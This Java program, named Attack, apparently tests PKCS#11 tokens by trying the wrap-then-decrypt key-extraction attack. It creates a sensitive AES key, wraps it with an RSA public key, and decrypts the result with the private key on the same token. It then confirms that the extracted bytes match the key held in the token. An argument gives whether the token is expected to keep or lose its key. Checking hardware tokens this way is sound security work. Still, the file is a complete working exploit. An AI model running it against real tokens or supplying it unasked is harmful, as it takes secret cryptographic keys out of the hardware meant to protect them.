import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.Key;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.KeyStore;
import java.security.Provider;
import java.util.Arrays;
import javax.crypto.Cipher;
import javax.crypto.KeyGenerator;
import javax.crypto.SecretKey;
import javax.crypto.spec.SecretKeySpec;

/**
 * Takes a sensitive key out of a token with three calls that a careless token allows: wrap it with one half of a key
 * pair, decrypt the blob with the other half, use the bytes outside. Ends with an error unless the token kept its key
 * as expected.
 *
 * <p>java Attack.java PROVIDER CONFIGURATION PIN-FILE TRANSFORMATION keeps|loses
 */
public final class Attack {
    private Attack() {
    }

    public static void main(String[] arguments) throws Exception {
        Provider token = provider(arguments[0], arguments[1]);
        KeyStore.getInstance("PKCS11", token)
            .load(null, Files.readString(Path.of(arguments[2])).strip().toCharArray());
        boolean kept = keeps(token, arguments[3]);
        System.out.println(kept ? "The token kept its key." : "The key is OUT of the token.");
        if (kept != arguments[4].equals("keeps")) {
            throw new IllegalStateException("expected that the token " + arguments[4] + " its key");
        }
    }

    private static boolean keeps(Provider token, String transformation) throws GeneralSecurityException {
        SecretKey secret = KeyGenerator.getInstance("AES", token).generateKey();
        System.out.println("A sensitive AES key in the token; getEncoded() gives " + Arrays.toString(secret.getEncoded()));
        byte[] stolen;
        try {
            KeyPair pair = KeyPairGenerator.getInstance("RSA", token).generateKeyPair();
            byte[] blob = cipher(token, transformation, Cipher.WRAP_MODE, pair.getPublic()).wrap(secret);
            stolen = cipher(token, transformation, Cipher.DECRYPT_MODE, pair.getPrivate()).doFinal(blob);
        } catch (GeneralSecurityException | RuntimeException refusal) {
            System.out.println("Refused: " + refusal.getMessage());
            return true;
        }
        byte[] block = new byte[16];
        byte[] inside = cipher(token, "AES/ECB/NoPadding", Cipher.ENCRYPT_MODE, secret).doFinal(block);
        Cipher outside = Cipher.getInstance("AES/ECB/NoPadding", "SunJCE");
        outside.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(stolen, "AES"));
        if (!Arrays.equals(inside, outside.doFinal(block))) {
            throw new IllegalStateException("what came out is not the key");
        }
        System.out.println("Wrapped, decrypted: " + stolen.length + " bytes that encrypt like the key in the token");
        return false;
    }

    private static Provider provider(String name, String configuration) throws ReflectiveOperationException {
        Provider unconfigured = name.equals("SunPKCS11") ? java.security.Security.getProvider(name)
            : (Provider) Class.forName(name).getConstructor().newInstance();
        return unconfigured.configure(configuration);
    }

    private static Cipher cipher(Provider token, String transformation, int mode, Key key)
            throws GeneralSecurityException {
        Cipher cipher = Cipher.getInstance(transformation, token);
        cipher.init(mode, key);
        return cipher;
    }
}
